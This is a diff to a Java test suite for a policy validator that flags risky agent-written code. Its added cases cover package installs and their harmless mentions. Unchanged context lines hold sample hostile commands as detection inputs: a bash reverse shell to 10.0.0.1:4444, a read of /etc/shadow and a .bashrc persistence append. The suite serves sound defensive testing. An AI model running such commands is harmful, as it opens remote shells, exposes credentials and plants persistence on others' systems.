@@ -100,6 +100,12 @@ class ValidationTest {
           bash | bash -i >& /dev/tcp/10.0.0.1/4444 0>&1                    | sh.reverse-shell        | FLAG
           bash | cat /etc/shadow                                           | sh.secrets              | FLAG
           bash | echo 'curl x' >> ~/.bashrc                                | sh.persistence          | FLAG
+          python | import subprocess\\nsubprocess.run(['pip', 'install', 'requests'])  | py.packages | FLAG
+          python | import os\\nos.system('python3 -m pip install --user numpy')      | py.packages | FLAG
+          python | import pip\\npip.main(['install', 'requests'])                    | py.packages | FLAG
+          javascript | require('child_process').execSync('npm install lodash')    | js.packages | FLAG
+          bash | pip install requests && python3 main.py                     | sh.packages             | FLAG
+          bash | apt-get install -y jq                                       | sh.packages             | FLAG
           """)
   void eachRuleFiresWithThePolicysOutcome(
       String language, String code, String rule, String outcome) {
@@ -138,6 +144,8 @@ class ValidationTest {
           javascript | class A { #x = 1; get x() { return this.#x } }; console.log(new A().x ?? 0)
           javascript | fetch('https://api.example.com/v1/items').then(r => r.json())
           bash | `for f in /work/*.csv; do wc -l "$f"; done | sort -n`
+          bash | `echo "to install it elsewhere: pip install requests" > /dev/null`
+          python | # needs: pip install requests\\nprint('installed already')
           """)
   void ordinaryAgentCodeHasNoFindings(String language, String code) {
     Policy policy = Policies.standard().withAllowedHosts(List.of("api.example.com"));
